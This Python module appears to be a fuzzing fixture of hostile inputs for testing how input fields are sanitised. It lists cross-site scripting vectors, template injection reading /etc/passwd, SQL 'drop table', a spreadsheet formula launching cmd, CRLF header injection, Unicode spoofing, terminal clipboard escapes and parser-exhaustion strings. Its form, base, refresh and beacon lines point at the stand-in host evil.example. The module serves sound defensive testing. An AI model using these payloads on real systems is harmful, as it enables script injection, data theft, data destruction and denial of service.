"""Hostile text: one payload or more per class, to be put into every field that people or machines fill in."""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "attribute, double": '" onmouseover=alert(1) x="',
    "attribute, single": "' onfocus=alert(1) autofocus x='",
    "handler": "<img src=x onerror=alert(1)>",
    "island": "</script><script>alert(1)</script>",
    "island comment": "<!--<script>",
    "template": "{{7*7}}{% include '/etc/passwd' %}${7*7}",
    "attribute key": "x/onload=alert(1)",
    "expression": r"(?<!\s)<b>bold</b>",
    "table break": "</td></tr></table><svg/onload=alert(1)>",
    "link scheme": "[a](javascript:alert(1)) <a href='java\nscript:alert(1)'>b</a> [c](data:text/html,<script>alert(1)</script>)",
    "reference link": "[a][b]\n\n[b]: javascript:alert(1)\n\n<javascript:alert(1)>",
    "mutation": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "annotation": '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "animate": "<svg><a><set attributeName=href to=javascript:alert(1)></set><text>x</text></a></svg>",
    "frames": "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "<form action=//evil.example><style>@import '//evil.example/x.css'</style></form>",
    "clobber": '<a id=location name=documentElement></a><div class="res ok">SUCCESS</div>',
    "beacon": "![t](http://evil.example/p.gif) <img src=//evil.example/p.gif> \\\\evil.example\\share",
    "declaration": "<![CDATA[<!DOCTYPE <![",
    "heading": '# a" onclick=alert(1)',
    "bytes": "\ufffd\ufffd\x00\x01\x7f\x85 nul and controls",
    "bidi": "\u202egnp.exe\u202c \u200bzero\u200dwidth \u0430dmin",
    "terminal": "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[2J\x1b]52;c;cHduZWQ=\x07",
    "formula": "=cmd|'/C calc'!A0",
    "sql": "'; drop table builds;-- % _ \" NEAR(",
    "crlf": "a\r\nX-Injected: y",
    "proto": "__proto__",
    "long": "x" * 5000,
}

QUADRATIC: dict[str, str] = {
    "brackets": "[" * 20_000,
    "image brackets": "![[" * 5_000,
    "links": "[a](b" * 5_000,
    "table": "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|b" * 2_000,
    "stars": "*" * 20_000,
    "quotes": ">" * 5_000,
    "lists": "".join(" " * (2 * depth) + "- x\n" for depth in range(300)),
}
